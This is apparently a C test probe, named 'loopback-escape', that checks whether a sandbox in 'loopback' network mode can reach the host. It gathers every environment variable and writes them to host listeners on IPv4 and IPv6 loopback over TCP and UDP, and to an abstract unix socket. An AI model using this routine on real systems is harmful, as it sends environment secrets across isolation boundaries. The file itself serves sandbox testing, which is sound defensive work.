/* loopback-escape: under network "loopback", the environment to the
 * host's listeners: TCP 127.0.0.1 and the host's other address, TCP [::1],
 * UDP 127.0.0.1, and the abstract unix socket. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "targets.h"

extern char **environ;
static char env[8192];

static void send_to(int family, int type, const struct sockaddr *sa,
                    socklen_t len, const char *what)
{
	int fd = socket(family, type, 0);

	if (fd < 0 || connect(fd, sa, len) < 0 ||
	    write(fd, env, strlen(env)) < 0)
		printf("%s: failed\n", what);
	else
		printf("%s: sent\n", what);
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in in = {.sin_family = AF_INET};
	struct sockaddr_in6 in6 = {.sin6_family = AF_INET6,
	                           .sin6_addr = IN6ADDR_LOOPBACK_INIT};
	struct sockaddr_un un = {.sun_family = AF_UNIX};
	const char *addrs[2];
	size_t n;

	targets_load(argc, argv);
	for (char **e = environ;
	     *e && strlen(env) + strlen(*e) + 2 < sizeof(env); e++) {
		strcat(env, *e);
		strcat(env, "\n");
	}
	addrs[0] = "127.0.0.1";
	addrs[1] = target("T_HOST_ADDR");
	in.sin_port = htons((unsigned short)atoi(target("T_TCP_PORT")));
	for (int i = 0; i < 2; i++)
		if (*addrs[i] &&
		    inet_pton(AF_INET, addrs[i], &in.sin_addr) == 1)
			send_to(AF_INET, SOCK_STREAM, (struct sockaddr *)&in,
			        sizeof(in), addrs[i]);
	if (*target("T_TCP6_PORT")) {
		in6.sin6_port =
		    htons((unsigned short)atoi(target("T_TCP6_PORT")));
		send_to(AF_INET6, SOCK_STREAM, (struct sockaddr *)&in6,
		        sizeof(in6), "[::1]");
	}
	in.sin_port = htons((unsigned short)atoi(target("T_UDP_PORT")));
	inet_pton(AF_INET, "127.0.0.1", &in.sin_addr);
	send_to(AF_INET, SOCK_DGRAM, (struct sockaddr *)&in, sizeof(in),
	        "udp 127.0.0.1");
	n = strlen(target("T_ABSTRACT_SOCK"));
	if (n && n + 1 < sizeof(un.sun_path)) {
		memcpy(un.sun_path + 1, target("T_ABSTRACT_SOCK"), n);
		send_to(
		    AF_UNIX, SOCK_STREAM, (struct sockaddr *)&un,
		    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n),
		    "abstract unix");
	}
	return 0;
}
